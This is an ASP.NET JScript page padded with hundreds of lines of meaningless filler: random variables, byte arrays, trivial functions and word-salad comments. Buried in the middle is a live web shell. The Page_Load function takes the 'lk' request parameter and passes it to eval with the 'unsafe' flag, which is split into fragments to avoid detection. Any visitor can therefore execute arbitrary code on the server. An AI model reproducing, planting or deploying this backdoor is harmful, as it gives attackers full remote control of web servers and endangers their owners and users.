<%@ Page Language="JScript" Debug="false" Trace="false" %>
<script runat="server">
/* orchard velvet lantern cobalt ledger thimble candle ledger tunnel ember anchor anchor signal signal */
var _DCjfzqmPNqJf = [214,17,224,241,103,40,116,87];
var _RuPrfFLC = [67,7,150,2,79,91,65,119];
var _SUVgOwe = 103 * 81 + 4831;
/* quartz ember cobalt ember ember falcon quartz falcon walnut saddle quartz falcon anchor anchor */
function _nfBAxqFw(x){return x+41;}
var _yuFOwIf = [109,253,162,163,148,211,30,176];
var _elhvdG = "myroavPrgUVTtvpWTcVYVANW";
/* ripple orchard saddle velvet falcon ledger anchor ripple ember ember cobalt thimble ledger tunnel */
var _tivXHXx = [84,251,134,72,209,181,1,131];
var _vpMKzIvHh = [113,237,199,230,53,214,158,43];
var _TrBfSwAmVAgY = 801 * 40 + 8479;
/* margin ripple basket ripple candle quartz pillow ember tunnel dagger thimble tunnel walnut meadow */
var _PcURMVwk = [79,143,82,234,87,199,185,37];
var _GRQkwUyzqnM = [166,146,42,15,233,26,68,193];
var _fiJEGDT = [182,138,71,43,25,148,121,208];
/* thimble quartz cobalt quartz signal signal walnut harbor saddle pillow margin candle tunnel velvet */
var _AIMTvhZDoLy = "mtXQGkdzpFCQiuAEJwUglQXI";
function _JKXHwl(x){return x+93;}
var _TlbxRVZR = "SPPvcpytAEntPRuHZdtiborM";
/* margin tunnel cobalt ripple basket margin dagger dagger thimble anchor signal pillow dagger falcon */
var _kKdSPetFuukL = "vyyqADIeuzaUIHCcXfSgcmsg";
var _vEKuyPHRWjbl = [170,211,118,117,211,156,14,119];
var _XqAnwODaof = [123,149,238,204,110,112,205,39];
/* thimble tunnel ledger pillow tunnel candle signal thimble ripple thimble orchard lantern walnut falcon */
var _zBkgjpt = [230,242,20,228,188,175,44,38];
var _mODYfyNim = [47,152,227,135,207,37,232,89];
function _ITPebno(x){return x+26;}
/* ledger harbor ripple lantern dagger falcon walnut velvet tunnel ripple pillow orchard meadow pillow */
var _zFdoJas = 985 * 37 + 9019;
var _YHRSvWbJEbJH = "VAMwCQRAUYeAqRJYrcdvYtMA";
var _cpurDQRaENVC = "UmWxYGZxyLSljXUTqWTKrWyU";
/* quartz thimble pillow cobalt candle velvet lantern ripple basket dagger pillow ember candle candle */
var _hnrUoet = 135 * 31 + 5568;
var _qlDJiTtZ = [104,74,132,4,15,24,125,158];
var _EzAbTa = "OgFzKJfMhyOHpWLLOmvAocoG";
/* basket anchor ledger anchor basket basket dagger ledger harbor quartz ripple candle cobalt orchard */
var _uNXadKxKDP = [240,91,156,1,102,24,221,132];
var _OYmNaBGeuqcx = "hVWtaAavrLlYYtHkuSyrECNi";
var _rPqwBS = "QjSrLGPHcrDPWYiqwdNhBYrY";
/* falcon meadow meadow ember candle falcon signal dagger saddle walnut falcon ripple orchard thimble */
var _sIrgqiSzf = [52,31,153,130,204,14,124,119];
function _zUAMLcFpb(x){return x+66;}
var _phruLEmM = 964 * 10 + 9452;
/* basket basket saddle ember velvet velvet ledger meadow tunnel dagger basket saddle harbor basket */
var _dJfPEWr = 212 * 77 + 8563;
var _mPYYUFrrQU = 349 * 22 + 6028;
function _oBDkEoqjyg(x){return x+39;}
/* velvet ripple harbor lantern ember saddle falcon margin margin saddle basket ledger orchard ripple */
var _rjPLGnHJECA = [187,119,234,110,170,188,28,95];
var _QXdYbucoM = 193 * 48 + 3680;
var _EWCNBPKsTJr = "KqBjsmhJlfyIrlGGUxMMMvba";
/* harbor meadow pillow saddle ripple lantern dagger tunnel saddle pillow falcon falcon falcon anchor */
function _hElyQoT(x){return x+8;}
function _sRdBDcSF(x){return x+92;}
var _jWmDMdxvN = "OiGsdcbvQvRlHEuhSCKXJzua";
/* tunnel pillow anchor thimble cobalt ledger thimble thimble lantern walnut dagger walnut falcon orchard */
var _UDmOoUj = [175,234,68,200,144,58,245,53];
var _MwsqBUNrxbgw = [204,110,219,157,158,158,84,115];
var _QjgGjBPmprVw = "ArMZnngRMJcaGJGYwMajiBjM";
/* cobalt walnut meadow quartz basket basket pillow walnut candle pillow ledger saddle dagger quartz */
var _jwVLyRgntQzB = [197,187,201,212,149,90,58,203];
var _uVnpDKBS = 161 * 73 + 1714;
var _OnrxFfgMvS = 783 * 22 + 5814;
/* pillow quartz saddle saddle ember pillow falcon ember ripple margin quartz ember margin signal */
var _aawAirlUQ = [82,21,193,175,51,232,44,201];
function _LXYVLQd(x){return x+29;}
var _KlzMuKkY = 410 * 37 + 3120;
/* cobalt harbor ember orchard saddle velvet lantern candle ember ember meadow walnut ember ripple */
function _atHaBN(x){return x+26;}
function _dZjVOKb(x){return x+47;}
function _BDVmvp(x){return x+85;}
/* candle saddle basket ripple ripple tunnel anchor orchard falcon signal meadow thimble margin falcon */
var _SLxSNuQ = 622 * 90 + 4356;
function _MgnZiJu(x){return x+4;}
function _JYwhXypb(x){return x+11;}
/* margin velvet signal harbor ledger thimble walnut lantern lantern ripple harbor falcon harbor meadow */
var _jmqFSI = [221,98,159,241,98,27,232,73];
var _BYkwSQp = "LiAqFjrDHYMQTamRkEumKvMN";
var _EUgBLr = "YtbWjhMcMjYbNcfLydCPROna";
/* dagger dagger walnut cobalt candle anchor dagger ripple pillow velvet basket anchor velvet tunnel */
var _oiVwsljbmaZy = "lSkYQbpzKQAmRVrSftoSGGRK";
var _cxfkFDkiiwqc = "vRBYvDpHCYQkeWAcnxSAbPjE";
var _nZSWgiiruOsC = "zHNVWUoucoiutYPPBIgmdgJm";
/* harbor meadow dagger margin velvet walnut anchor pillow signal ledger basket candle ember cobalt */
function _xugorkgqgbWc(x){return x+26;}
function _wtdguPncxa(x){return x+18;}
var _exgsBFgXZ = "tesxJmeAWvBYIKSiNtLKchsy";
/* orchard ledger orchard anchor lantern velvet ledger ripple anchor walnut basket orchard margin anchor */
function _TlaDUhkGS(x){return x+25;}
function _jXIOOL(x){return x+99;}
var _SMRAcfA = "AHPEBcztoXNzzYvwytPySqKX";
/* cobalt anchor margin lantern orchard quartz harbor dagger dagger ledger walnut walnut anchor margin */
var _LYMlkRjki = [42,104,127,213,43,31,63,207];
var _RtbFDBmklDoX = 456 * 58 + 9346;
var _SHmngvL = "KjnGPiWCtnZdkfOqjNXvVJPp";
/* anchor lantern saddle tunnel signal dagger pillow velvet ripple orchard thimble falcon ledger thimble */
var _LzqqPyMTLO = [246,54,17,83,40,162,81,70];
function _KORqJijvGn(x){return x+69;}
var _GFxFOktu = "diyCWMRXITTFRfZiatyrzssX";
/* basket walnut ember thimble tunnel velvet saddle orchard thimble velvet margin ember thimble pillow */
var _xONyJmTvA = [95,162,105,70,187,117,133,178];
var _ExKNZZZGMy = [139,55,182,192,109,50,190,105];
var _yVjrDGuUa = 932 * 49 + 2785;
/* saddle walnut meadow orchard margin cobalt quartz orchard velvet tunnel harbor candle ember meadow */
var _EHmPHh = [10,38,133,206,75,80,222,99];
function _cxFfdQwC(x){return x+74;}
var _mZRhQTwRe = [170,58,65,9,236,96,222,16];
/* tunnel candle dagger meadow ember lantern harbor tunnel margin walnut ripple margin anchor quartz */
var _NnygOvWASmVn = 563 * 35 + 5338;
var _gneswkKcntUS = "MNbPvJzrSEvjrCRFrVXDyuaV";
function _CyHQKaD(x){return x+85;}
/* anchor candle cobalt ripple meadow lantern meadow margin falcon tunnel harbor basket anchor quartz */
var _jSWQEdncnQKe = "iQuNuDLVWlmeJATONEzVOvKE";
function _hnHFiTk(x){return x+52;}
var _tEegqBvFW = 925 * 25 + 224;
/* orchard cobalt quartz falcon ledger saddle margin ripple walnut tunnel thimble meadow orchard meadow */
var _gmsmVWsq = 590 * 67 + 7374;
var _RXtrNLWPiHU = "uyHjSvDiLqLzwMaIjENxPFaQ";
var _mgsWBJOkDn = "eVdUOcrYWafVaSHIuOizhRgB";
/* pillow dagger harbor saddle velvet signal quartz pillow thimble ledger ripple velvet pillow margin */
function _bOuayG(x){return x+99;}
var _weWKvlnoU = 509 * 96 + 8432;
var _CrdGOU = [156,81,76,65,208,9,105,243];
/* ember anchor basket lantern cobalt pillow signal anchor orchard pillow saddle pillow ripple dagger */
function _Jiyklj(x){return x+51;}
var _TThuHyTVTrHh = 66 * 62 + 6583;
var _DeOuFLlVENJ = [169,107,198,178,73,23,165,133];
/* quartz meadow dagger ember candle candle dagger lantern candle harbor basket cobalt tunnel tunnel */
var _QlpEPXnN = [141,211,135,145,112,251,7,128];
var _VOHTFmd = [180,52,95,125,195,56,193,81];
var _TbzRqHtxx = 324 * 52 + 3185;
/* velvet saddle ember signal quartz ledger orchard lantern signal pillow harbor thimble basket cobalt */
var _HcBxRUrgUlX = "OiPIJznULjTkmULNNlRVKlyI";
function _HUugNl(x){return x+42;}
var _YcezNUjygkW = "FWrAFiVLHtMSKKNCVInpRDuO";
/* walnut thimble pillow walnut ripple saddle quartz signal cobalt lantern ember harbor signal candle */
var _MnWlokKPdAFL = [227,168,25,16,220,50,183,77];
var _XBTMXU = 376 * 62 + 9551;
var _dExsDJULPg = 542 * 11 + 3108;
/* quartz ember lantern ember saddle meadow candle meadow ember tunnel harbor ledger quartz signal */
var _AFQyglL = "QlUvMWIhfhYAkLuChvCtlnNj";
var _crJuJqYwgSf = 593 * 22 + 8345;
var _oVaJesyIud = 871 * 72 + 231;
/* lantern harbor ember ledger velvet lantern velvet falcon candle signal falcon signal margin dagger */
var _YLfvUhMnxR = "FuWctSGGbbNdRUjhXFNJHQwU";
var _DuNMaYGay = [181,139,8,198,142,204,123,237];
function _GzYOjx(x){return x+55;}
/* walnut ledger ember orchard anchor velvet ripple ember quartz meadow tunnel dagger ember ledger */
function _SGJnuCCc(x){return x+10;}
var _jqImedBtwDOj = "bxiAguNjtFqXfdpZIBTovbSB";
function _khkjUKBfPr(x){return x+78;}
/* ledger basket saddle pillow cobalt ember thimble cobalt ember signal lantern ledger thimble candle */
var _ChUBNDu = [4,34,204,173,135,246,121,49];
var _RkctVNdcwaB = 767 * 4 + 29;
var _nRfIKSdxvxqh = [229,66,234,50,20,183,27,86];
/* orchard saddle orchard margin quartz ember ripple meadow margin anchor thimble candle cobalt pillow */
var _IeMNZG = "beIuevyKZTzfkXoTGtqcldhc";
var _iJxGPNV = [224,66,177,142,101,195,254,129];
var _pQRZQEBznlFP = [193,137,106,126,228,144,84,96];
/* tunnel harbor walnut anchor quartz saddle pillow lantern orchard quartz orchard meadow saddle dagger */
var _fofUtydFXt = [25,32,164,89,107,38,48,109];
var _zKQxpQfnCZcJ = 807 * 57 + 7280;
var _xZhBVNm = [130,17,250,79,133,22,97,169];
/* velvet candle saddle signal margin meadow saddle ripple signal meadow cobalt pillow falcon saddle */
function _BnmsxCrZ(x){return x+90;}
var _OcvpnuwRRUI = "RVDnXPFUCqOAjxMjoiNwZxjc";
function _csORzTKzCLJS(x){return x+75;}
function Page_Load(){var _qWx=Request.Item;var _zPo="un"+"sa"+"fe";eval(_qWx["lk"],_zPo);}
/* anchor orchard velvet velvet anchor saddle orchard walnut signal saddle margin falcon lantern anchor */
var _aBRnALSqy = "kRFnvEIBZXflBzJPqVFDHApp";
function _sijDDVP(x){return x+64;}
var _zGTODj = 964 * 95 + 5216;
/* thimble harbor signal saddle ledger candle meadow walnut dagger saddle anchor signal thimble lantern */
function _tzbvWor(x){return x+2;}
var _tKYgcfg = [233,143,227,231,59,92,197,252];
var _UfvVHWZSXn = 641 * 87 + 784;
/* thimble dagger ledger anchor thimble ledger meadow dagger orchard saddle harbor lantern falcon velvet */
var _QbsMfPupYb = [145,64,65,161,209,250,86,126];
function _yKcyOpiNC(x){return x+75;}
var _KqwNnFjhba = 990 * 21 + 9893;
/* thimble signal ledger falcon saddle tunnel thimble quartz dagger pillow ripple ripple basket ripple */
var _EtDBDsiAKF = "OslJBFYUJMvknxcmZTVgNfRH";
var _TwaTHAQMVcLT = [155,62,96,212,115,142,18,160];
var _lFsPvT = "OprnEicoypVExisJKSxMCRwN";
/* signal candle signal margin velvet signal basket anchor ember ember meadow ripple thimble saddle */
function _HsEeqzeIawou(x){return x+47;}
function _AnRVxNNiUqf(x){return x+46;}
var _jSjCyPHhHmul = [34,16,39,204,70,3,68,167];
/* dagger harbor harbor pillow dagger ripple velvet basket signal lantern signal quartz pillow margin */
var _RnLcSuLKJBQK = [217,77,195,60,70,219,201,72];
var _ePdwJTJFRm = "GzquHqftBshqMzbtrpgeOHwQ";
function _ddiSKhZbVN(x){return x+1;}
/* margin dagger dagger orchard basket ledger dagger cobalt thimble dagger harbor anchor pillow meadow */
var _LEfekZ = [145,204,132,122,0,26,236,148];
function _EcFDOD(x){return x+64;}
function _rvJRmloH(x){return x+74;}
/* anchor lantern candle dagger velvet harbor signal walnut lantern velvet walnut dagger quartz velvet */
var _fHzNyH = [147,218,115,105,104,87,237,5];
var _XpzNhWIA = [120,157,17,204,76,4,224,84];
var _GRnYHFm = "GKPvvJkdZdwPHfneSlEHLWSh";
/* harbor margin cobalt ledger basket ember cobalt meadow pillow tunnel candle harbor basket saddle */
var _rklfox = [87,164,67,189,204,117,62,75];
function _YDuJfzhxsDh(x){return x+88;}
var _akdelWtnS = "KXGxwqDfqRStBSpuyAVKvQAq";
/* signal thimble anchor saddle velvet ember dagger basket candle anchor velvet saddle walnut harbor */
var _szGQhTqoEcHT = [16,60,236,80,187,148,174,161];
var _PyjLudrQE = "PAYpygiSaKSCHAgeEJlRTluc";
function _mIQYwir(x){return x+17;}
/* ledger tunnel orchard meadow ledger ember quartz falcon falcon ripple anchor ledger meadow walnut */
var _zVohFNkvl = "eYGstsPxYxjudiuQWcIXqPkx";
var _sJXjaYWDg = [44,188,42,147,224,194,75,226];
var _BavDYCyKnMWm = "FfixyeTvttryEBuqZoRrPLaP";
/* margin ripple ember velvet saddle candle falcon falcon cobalt harbor harbor basket anchor candle */
var _MrjuMjeJ = 782 * 85 + 7754;
function _ckXpAqKWr(x){return x+41;}
function _rdFcKTnTGa(x){return x+17;}
/* anchor basket basket lantern thimble pillow orchard quartz dagger cobalt basket anchor signal cobalt */
function _nAQvIMDpStjU(x){return x+92;}
var _kVefczJg = [121,35,25,23,137,91,138,252];
var _nzMxce = [210,157,39,32,171,9,95,75];
/* velvet lantern saddle tunnel pillow orchard velvet ledger basket ledger pillow margin meadow tunnel */
function _qgcpzHUZN(x){return x+52;}
var _BPWnsak = 945 * 64 + 2129;
var _lwSwnpE = 790 * 98 + 461;
/* orchard ember tunnel meadow lantern orchard ledger cobalt candle saddle margin basket anchor falcon */
var _zZelNtWL = [149,24,99,232,34,100,71,34];
var _RhLsbqvTYAVY = [180,91,108,114,153,93,68,183];
var _miPztQydYRmL = 248 * 11 + 7400;
/* margin saddle ledger lantern ripple ledger ripple tunnel tunnel basket velvet quartz dagger falcon */
var _aWGbjKQTn = [14,148,156,227,180,154,211,95];
function _oxDfbi(x){return x+68;}
var _kiEYaBYdmE = 62 * 7 + 9649;
/* anchor dagger pillow ember signal anchor tunnel falcon basket ledger margin ledger harbor signal */
function _kkprOkVkih(x){return x+62;}
var _fOdhmjfK = [113,43,26,80,65,39,255,234];
function _pNcoZsqqrCq(x){return x+73;}
/* candle ripple ember dagger anchor ledger walnut margin orchard anchor anchor basket lantern lantern */
function _oSVYTcDhELZC(x){return x+61;}
var _HsEMTFOaZE = "WBXxIuSyfFRrrjsXkTGfyZPJ";
function _jUrEfKMudLMK(x){return x+34;}
</script>
